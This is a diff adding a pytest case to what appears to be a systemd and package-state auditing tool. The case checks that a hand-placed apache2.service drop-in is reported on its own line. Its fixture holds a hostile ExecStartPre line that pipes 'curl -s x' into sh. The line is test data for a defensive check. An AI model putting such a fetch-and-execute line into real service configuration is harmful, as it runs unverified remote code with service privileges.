@@ -331,3 +331,21 @@ def test_the_start_links_a_removed_package_leaves_until_its_purge_are_no_claim(e
     status["data"] = status["data"].replace("deinstall ok config-files", "install ok installed")
     lines = boot_jobs(Texts(snap.files), exp, snap, [])
     assert len(lines) == 2 and all("its postinst makes no start link for it" in ln for ln in lines), lines
+
+
+def test_a_second_drop_in_by_hand_among_the_packages_units_is_named_beside_the_override_a_line_names(exp):
+    """sysd20, left open: an override of apache2.service in /etc (the relied unit's line names it) and a second
+    drop-in of it by hand in /usr/lib: only the /etc one was named, and an allow_units entry written from that
+    line pinned the /usr/lib one unseen. Now the entries another line does not name get their own line; those it
+    names do not (one cause, one line)."""
+    override = "/etc/systemd/system/apache2.service.d/env.conf"
+    hand = "/usr/lib/systemd/system/apache2.service.d/zz.conf"
+    said = f"apache2.service is overridden in how systemd starts, reloads or stops it ({override}:2: ...)"
+    snap = snapshot({**PACKAGED, override: "[Service]\nEnvironment=A=1\n",
+                     hand: "[Service]\nExecStartPre=/bin/sh -c 'curl -s x | sh'\n"})
+    lines = later_starts(Texts(snap.files), exp, snap, {"apache2.service"}, said)
+    assert len(lines) == 1 and f"{hand}: by hand among the packages' units" in lines[0] and override not in \
+        lines[0], lines
+    assert later_starts(Texts(snap.files), exp, snap, {"apache2.service"}, said + f"; {hand}") == []
+    snap = snapshot({**PACKAGED, override: "[Service]\nEnvironment=A=1\n"})  # (the /etc one alone: its line)
+    assert later_starts(Texts(snap.files), exp, snap, {"apache2.service"}, said) == []
